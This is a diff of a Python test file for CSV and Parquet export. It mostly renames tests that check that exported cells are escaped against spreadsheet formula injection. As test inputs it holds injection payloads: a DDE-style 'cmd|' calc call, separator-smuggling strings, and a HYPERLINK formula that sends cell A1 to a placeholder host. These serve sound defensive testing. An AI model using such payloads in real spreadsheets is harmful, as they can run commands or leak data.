@@ -1,4 +1,4 @@
-"""Frames and charts as files for other programs."""
+"""Export of frames and charts as files."""
 
 import csv
 from pathlib import Path
@@ -63,7 +63,7 @@ texts = st.lists(
 @given(texts=texts)
 @example(texts=["=1", " =1", "\t+1", "\ufeff=1", "＝1", "a;=1", "a; -5;b", "\n", "plain"])  # noqa: RUF001
 @example(texts=['x;"=cmd', 'x;""=cmd', "x\n=cmd", "x\t=cmd", "x|=cmd", "x,=cmd", 'x\n"a;=b', 'x, "=cmd'])
-def test_no_cell_is_a_formula_whatever_separates_cells(tmp_path: Path, texts: list[str]) -> None:
+def test_no_cell_is_a_formula_with_any_separator(tmp_path: Path, texts: list[str]) -> None:
     frame = pd.DataFrame({"name": texts, "kind": pd.Categorical(texts), "number": 1})
     file = export_csv(frame, tmp_path / "names.csv")
     for separator in ",;|\t":
@@ -73,7 +73,7 @@ def test_no_cell_is_a_formula_whatever_separates_cells(tmp_path: Path, texts: li
         assert name.replace("'", "") == text.replace("'", "")
 
 
-def test_a_cell_behind_a_space_is_no_call_and_no_link(tmp_path: Path) -> None:
+def test_no_cell_is_a_call_with_spaces_as_separator(tmp_path: Path) -> None:
     frame = pd.DataFrame(
         {"name": ['x =HYPERLINK("http://a.invalid/"&A1)', "x =cmd|'/Ccalc'!A0", "x +SUM(A1)", 'x "=a!b']}
     )
@@ -100,7 +100,7 @@ def test_a_harmless_text_is_not_changed(tmp_path: Path, text: str) -> None:
 
 
 @pytest.mark.parametrize("starter", STARTERS)
-def test_headings_and_index_are_defused_like_cells(tmp_path: Path, starter: str) -> None:
+def test_headings_and_index_are_escaped(tmp_path: Path, starter: str) -> None:
     frame = pd.DataFrame({f"{starter}1": [1]}, index=pd.Index([f"{starter}cmd"], name="id"))
     assert _rows(export_csv(frame, tmp_path / "names.csv")) == [["id", f"'{starter}1"], [f"'{starter}cmd", "1"]]
 
@@ -135,14 +135,14 @@ def test_every_frame_goes_to_csv_and_back_from_parquet(tmp_path: Path, name: str
 
 
 @pytest.mark.parametrize(("write", "name"), [(export_csv, "frame.xlsx"), (export_parquet, "frame.csv")])
-def test_a_wrong_ending_is_refused(tmp_path: Path, write: Any, name: str) -> None:
+def test_a_wrong_suffix_is_refused(tmp_path: Path, write: Any, name: str) -> None:
     with pytest.raises(ValueError, match="should end with"):
         write(pd.DataFrame(), tmp_path / name)
 
 
 @pytest.mark.parametrize("write", [export_csv, export_parquet])
 @pytest.mark.parametrize("nothing", [None, [1], pd.Series([1])])
-def test_what_is_no_frame_is_refused(tmp_path: Path, write: Any, nothing: Any) -> None:
+def test_other_objects_than_frames_are_refused(tmp_path: Path, write: Any, nothing: Any) -> None:
     ending = write.__name__.removeprefix("export_")
     with pytest.raises(TypeError, match="frame must be a DataFrame, not"):
         write(nothing, tmp_path / f"frame.{ending}")
@@ -172,7 +172,7 @@ def _one_of_each(folder: Path) -> list[pd.DataFrame]:
     return frames
 
 
-def test_files_of_one_kind_have_one_schema_and_are_read_together(tmp_path: Path) -> None:
+def test_files_of_one_kind_of_frame_have_one_schema(tmp_path: Path) -> None:
     frames = _one_of_each(tmp_path)
     schemas = [pq.read_schema(file).remove_metadata() for file in sorted(tmp_path.iterdir())]
     assert all(schema.equals(schemas[0]) for schema in schemas)
@@ -188,7 +188,7 @@ def test_files_of_one_kind_have_one_schema_and_are_read_together(tmp_path: Path)
     assert by_pandas.index.tolist() == [index for frame in frames for index in frame.index]
 
 
-def test_a_file_gives_its_frame_back(tmp_path: Path) -> None:
+def test_a_file_is_read_back_as_its_frame(tmp_path: Path) -> None:
     for number, frame in enumerate(_one_of_each(tmp_path)[1:], start=1):
         again = pd.read_parquet(tmp_path / f"{number}.parquet")
         files = [None if value is None else list(value) for value in again["changed_files"]]
